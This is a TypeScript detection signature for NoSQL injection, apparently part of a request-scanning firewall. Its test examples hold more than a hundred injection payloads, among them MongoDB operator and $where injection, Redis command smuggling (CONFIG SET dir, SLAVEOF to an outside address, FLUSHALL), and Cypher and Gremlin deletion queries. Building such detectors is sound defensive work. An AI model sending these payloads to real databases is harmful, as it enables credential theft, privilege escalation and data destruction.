import { constantFilter } from '../nosql/constant-filter.ts';
import { listedSecret } from '../nosql/listed-secret.ts';
import { bareOperator, operatorInValue, operatorName } from '../nosql/operator-keys.ts';
import { foreignClause, wholeStatement } from '../nosql/query-languages.ts';
import { reopenedString } from '../nosql/reopened-string.ts';
import { schemaQuery } from '../nosql/schema-query.ts';
import { scriptBreakOut } from '../nosql/script-break-out.ts';
import { secretExpression } from '../nosql/secret-expression.ts';
import { secretFilter } from '../nosql/secret-field.ts';
import { storeAccess, storePath, storeRole } from '../nosql/store-access.ts';
import { storeCommand } from '../nosql/store-commands.ts';
import { storeLine } from '../nosql/store-lines.ts';
import { type Characters, hasAll, hasAny, marksOf, type Reading, readingOf } from '../readings/reading.ts';
import type { Leaf, LeafKind } from '../request/leaf/leaf.ts';
import type { Finding, Signature } from '../signature.ts';

const DOLLAR = marksOf('$');
const CODE = marksOf('\'"`;|&()=');
/** Brackets behind a field. */
const FILTER = marksOf('[');
/** An object as the value of a field. */
const OBJECT = marksOf('{:');
/** Of lookups along relations and of operators before a value. */
const JOINTS = marksOf('_.~:');
/** Where a text is all that is handed over. */
const HANDED_ON: ReadonlySet<LeafKind> = new Set(['query', 'form', 'multipart', 'cookie', 'graphql']);
/** Of the fields by which GraphQL tells its schema. */
const SCHEMA = marksOf('{_');

/** Queries of document, key-value and graph databases: operators as keys, scripts they run, commands and clauses. */
export const nosqlInjection: Signature = {
  type: 'nosql_injection',
  mitre: 'T1190',
  impact: [25, 35],
  pieceDiscount: 0.1,
  examples: {
    hits: [
      { body: '{"sort":{"password":1}}', contentType: 'application/json' },
      { body: '{"orderBy":[{"author":{"passwordHash":"desc"}}]}', contentType: 'application/json' },
      { body: '{"include":{"user":{"select":{"resetToken":true}}}}', contentType: 'application/json' },
      { query: 'sort[password]=1' },
      "'||typeof this.password==='string'||'",
      "' || hex_md5(this.password)=='x' || '",
      "' || /^a/.test(this.token) || '",
      "' || 2>1 || '",
      '1;(function(){var d=new Date();while(new Date()-d<5000);})()',
      "';return Object.getOwnPropertyNames(this).length==4;//",
      "';for(var i=0;i<1e9;i++){};'",
      "' SHOW DATABASES //",
      { query: 'password__startswith=pbkdf2' },
      { query: 'q[user_reset_password_token_start]=0' },
      { query: 'user__is_superuser=True' },
      { query: "$filter=startswith(Password,'a')" },
      { query: 'order_by=author__password' },
      { query: 'select=name,users(password_hash)' },
      { query: 'password=like.a*' },
      { query: 'q=*:* OR password:*' },
      { body: '{"where":{"resetToken":{"startsWith":"06"}}}', contentType: 'application/json' },
      { body: '{"filter":{"_bsontype":"Code"}}', contentType: 'application/json' },
      { body: '{"roles":["_admin"]}', contentType: 'application/json' },
      { path: '/_users/_all_docs' },
      'CONFIG SET dir /var/spool/cron',
      'SLAVEOF 203.0.113.9 6379',
      'RPUSH jobs x',
      'ZADD scores NX 999 ann',
      'SET session:ann {"admin":true}',
      'RESTORE k 0 "x"',
      'FLUSHALL ASYNC',
      'CLIENT LIST',
      { query: 'view=_design/a/_view/b' },
      'MATCH (n) RETURN n LIMIT 9',
      'MATCH (u:Account) RETURN u.passwordHash',
      'MERGE (a:Account {admin:true})',
      'CALL /**/ dbms.components() YIELD name RETURN name',
      '7 CALL db.schema.visualization() YIELD nodes RETURN 1//',
      'this.total>=9',
      'var a=new Date();while(new Date()-a<9){}',
      'SELECT a FROM b ALLOW FILTERING',
      { query: 'f=%7B%22$text%22:%7B%22$search%22:%22a%22%7D%7D' },
      'SCAN 0',
      '1}) DETACH DELETE n //',
      'function(a,b){sleep(5000)}',
      'flag: {$regex: ^a}',
      { body: '{"query":{"prefix":{"password":"a"}}}', contentType: 'application/json' },
      'function(){emit(1,1)}',
      'SELECT * FROM users WHERE a=1 ALLOW FILTERING',
      {
        body: '{"query":"{ users(filter: { name: { \\"$ne\\": \\"\\" } }) { id } }"}',
        contentType: 'application/json',
      },
      { body: 'user=ann%0d%0aKEYS%20*%0d%0a', contentType: 'application/x-www-form-urlencoded' },
      'AUTH x\r\nINFO',
      "x' or true or Name eq '",
      'Person) WHERE true RETURN n //',
      'x") |> range(start:0)',
      'x" } UNION { ?s ?p ?o } #',
      'x"} or {job=~".+',
      "1').drop().V('",
      'g.V().drop()',
      'x","role":"admin","a":"b',
      '{!term f=a}x',
      ':x OR username = :y',
      "'; assert(false, tojson(db.getCollectionNames())); '",
      '" UPDATE u WITH {role:"admin"} IN users //',
      '" OR role:admin OR "',
      "') redis.call('CONFIG','SET','dir','/tmp') --",
      "EVAL \"return redis.call('keys','*')\" 0",
      { body: '$or[0][role]=admin', contentType: 'application/x-www-form-urlencoded' },
      { body: '{"username":["$ne","x"]}', contentType: 'application/json' },
      "x' SET n.admin=true //",
      { query: "$filter=Name eq 'x' or '1' eq '1'" },
      "x' or '1' eq '1",
      { query: '$filter=A eq 1 or (1 eq 1' },
      { query: '$orderby=Owner/PasswordHash' },
      { query: '$expand=Owner($select=PasswordHash)' },
      { body: '{"query":"{a(b:{password:{$ne:1}}){c}}"}', contentType: 'application/json' },
      { body: '{"source":"doc[\'password\'].value"}', contentType: 'application/json' },
      { headers: { Cookie: 'q=j:%7B%22$ne%22:1%7D' } },
      'MATCH (n) WHERE n.a = 1 CALL apoc.load.json(n.b) YIELD value RETURN 1',
      "FOR u IN users FILTER u.a == '' || 1 == 1 RETURN u",
      "x' FOREACH (i IN [1]|CREATE (:X)) //",
      "x' FILTER 1==1 RETURN u //",
      "'+this.password+'",
      'x=>x.password',
      '}, { password : /.*/ }',
      { query: 'q=_exists_:password_hash' },
      { body: '{"source":"ctx._source.role = 1"}', contentType: 'application/json' },
      "this.password.substring(0,1)=='a'",
      'for(x in this){}',
      'x\r\nlrange a 0 -1\r\n',
      'x\r\nquit\r\n',
      '1 WITH n MATCH (m) RETURN m',
      'function(){ var x = 1; return x; }',
      "db['users'].find()",
      'x\r\nstats\r\n',
      { headers: { Cookie: 'q=%24where' } },
      { contentType: 'application/json', body: '{"u":{"$regexp":"a"}}' },
      { query: 'user[$ne]=x&password[$regex]=^a' },
      { body: '{"user":{"$gt":""},"password":{"$gt":""}}', contentType: 'application/json' },
      '{"$ne": null}',
      "', $or: [ {}, { 'a':'a",
      "admin' || '1'=='1",
      "' && this.password.match(/^a.*/)//",
      "'; return true; var x='",
      '1;sleep(5000)',
      "0'; while(true){}; '",
      'db.users.remove({});',
      'key\r\nset admin 0 60 4\r\ntrue',
      { query: '$set[role]=admin' },
      { contentType: 'application/json', body: '{"account":{"$gte":null}}' },
      { query: 'filters[reset_token][$startsWith]=a' },
      { query: 'x=%7B%22$type%22:2%7D' },
      '$ne',
      "'}, {password: /.*/}, {'",
      '}) RETURN n UNION MATCH (m) RETURN m //',
      '\r\nSET k v\r\n',
      "x' MATCH (n) DETACH DELETE n //",
      { body: '{"otp":{"$type":2}}', contentType: 'application/json' },
      { headers: { authorization: 'Bearer {"$ne":""}' } },
      "' || true RETURN u //",
      { query: 'key=a%0d%0aSET+role+admin' },
      "db.users.find({$where:'1'})",
      'db.users.find()',
      { body: '{"map":"function(){emit(1,this.password)}"}', contentType: 'application/json' },
      "';throw new Error(tojson(this));'",
      'function(){ var d = new Date(); while (new Date() - d < 4000); }',
      "x'})-[:KNOWS]->(n) RETURN n //",
      { query: 'query=%7B__schema%7Btypes%7Bname%7D%7D%7D' },
      { body: '{"user.$ne":"x"}', contentType: 'application/json' },
    ],
    misses: [
      { query: 'view_count[$gte]=5&pageCount[$lt]=9&age[$gt]=18' },
      { body: '{"fields":{"password":{"type":"text"}},"select":"a"}', contentType: 'application/json' },
      { body: '{"sort":{"name":1},"password":"x"}', contentType: 'application/json' },
      { query: 'sort[name]=1&user[password]=x' },
      '"red shoes" OR title:boots',
      { query: 'q=_exists_:title' },
      { body: '{"source":"ctx._source.views += 1"}', contentType: 'application/json' },
      { query: 'sort=-created_at&fields=name,email&order_by=author__name' },
      { query: 'q=password: how to reset it' },
      {
        body: '{"rules":{"password":{"not":"a"},"name":{"not":"b"},"age":{"gt":"1"}}}',
        contentType: 'application/json',
      },
      'keys to the house * and more',
      'Scan 1',
      { body: '{"query":{"prefix":{"title":"a"}},"prefix":{"name":"b"}}', contentType: 'application/json' },
      'flush it all',
      'Hello\r\nkeys to the house',
      { body: '{"query":"{ a(price: \\"$5\\") { id } }"}', contentType: 'application/json' },
      'set the table 5',
      'restore my account 2 times',
      'client list of the week',
      'Client list',
      'Match (home) return trip',
      'Create (new) account',
      { body: '{"a":"MATCH (p:Product) RETURN p.name","b":"x"}', contentType: 'application/json' },
      'this.total of 9',
      { path: '/_next/data/x.json' },
      'x |> map(y)',
      ';(function(){ start(); })()',
      'done; for (var i = 0; i < 9; i++) run(i);',
      { query: '$or[0][status]=open&$or[1][price][$lt]=5' },
      "it's set at 5, match (home) starts at 8",
      'x => x.id',
      '1 match (3:1) with a return',
      'Hello\r\ninfo',
      'return this to the shop',
      'It costs $in',
      { query: '$filter=price gt 5&$top=10&$select=name' },
      { body: '{"$schema":"http://x.test/s","$ref":"#/a","$id":"b"}', contentType: 'application/json' },
      { body: '{"properties":{"$browser":"x","$set":{"a":"b"},"$lib":"web"}}', contentType: 'application/json' },
      { body: '{"_id":{"$oid":"5f"},"at":{"$date":"2020"},"n":{"$numberLong":"5"}}', contentType: 'application/json' },
      'In MongoDB you would write { age: { $gt: 18 } } for adults.',
      'if (a || b == 1) return true;',
      'It costs $in total: 5',
      { query: 'createdAt[$gte]=2024-01-01&price[$lt]=50&status[$in][]=open' },
      { query: 'where=%7B%22score%22:%7B%22$gt%22:1000%7D%7D' },
      { query: 'where=%7B%22score%22:%7B%22$gte%22:10,%22$lt%22:20%7D%7D' },
      { query: '$limit=10&$skip=20&$sort[createdAt]=-1' },
      { body: '{"$token":"x","$distinct_id":"1","$set":{"Address":"1 Main Street"}}', contentType: 'application/json' },
      {
        body: '{"where":{"createdAt":{"$gte":{"__type":"Date","iso":"2024-01-01"}}}}',
        contentType: 'application/json',
      },
      'Match (Berlin, 3:1) and return ticket',
      { query: "$filter=Name eq 'x' or Name eq 'y' and 1 eq 1" },
      { query: '$orderby=Owner/Name&$expand=Owner($select=Name)' },
      { body: '{"query":"query($a:Int){b(c:$a)}"}', contentType: 'application/json' },
      'for you in games filter 1 == 1',
      '{"id":{"$in":["a","b"]}}',
      { body: '{"items.$.qty":1,"price.$gte":5}', contentType: 'application/json' },
      { body: '{"query":"{__schema{types{name}}}"}', contentType: 'application/json' },
      { query: 'query=%7Buser%7B__typename%7D%7D' },
    ],
  },
  couldMatch(characters: Characters): boolean {
    return hasAny(characters, DOLLAR | CODE | FILTER | JOINTS) || characters.lineEnd || characters.blank;
  },
  match(whole: Reading): Finding | null {
    const isPlain = !hasAny(whole, DOLLAR | CODE | FILTER) && !whole.lineEnd && !hasAll(whole, SCHEMA);
    if (isPlain && !leavesObject(whole)) return ofWords(whole);
    const reading = valueIn(whole);
    const dollar = hasAny(reading, DOLLAR);
    const found = [
      dollar && reading.leaf.part === 'name' ? operatorName(reading) : null,
      dollar ? (operatorInValue(reading) ?? bareOperator(reading)) : null,
      hasAny(reading, CODE) || leavesObject(reading) ? (scriptBreakOut(reading) ?? reopenedString(reading)) : null,
      hasAll(reading, OBJECT) && reading.leaf.part !== 'name' ? secretFilter(reading) : null,
      foreignClause(reading),
      ofWords(whole),
      reading.lineEnd ? storeCommand(reading) : null,
      hasAll(reading, SCHEMA) ? schemaQuery(reading) : null,
    ];
    return found.reduce((best, each) => ((each?.confidence ?? 0) > (best?.confidence ?? 0) ? each : best), null);
  },
};

/** A text that first closes the object it was put into. */
function leavesObject({ text }: Reading): boolean {
  return text.charCodeAt(0) === 0x7d;
}

/** What words tell without a quote, a bracket or a dollar: of a name, a path and a parameter. */
function ofWords(reading: Reading): Finding | null {
  const { leaf } = reading;
  if (leaf.part === 'name') return storeAccess(reading) ?? secretFilter(reading) ?? listedSecret(reading);
  if (leaf.kind === 'path') return storeAccess(reading);
  if (!isParameter(leaf)) return storeRole(reading);
  const ofLanguage = reading.blank ? (storeLine(reading) ?? constantFilter(reading) ?? wholeStatement(reading)) : null;
  return ofLanguage ?? secretExpression(reading) ?? storePath(reading) ?? storeRole(reading);
}

/** One text that a caller hands over. */
function isParameter({ kind, part, isPiece, isAlone }: Leaf): boolean {
  if (part !== 'value' || isPiece === true) return false;
  return HANDED_ON.has(kind) || isAlone === true;
}

/** What a handler takes from a path comes behind its slash. */
function valueIn(reading: Reading): Reading {
  const { leaf, text, decodings } = reading;
  return leaf.kind === 'path' && text.startsWith('/') ? readingOf(leaf, text.slice(1), decodings) : reading;
}
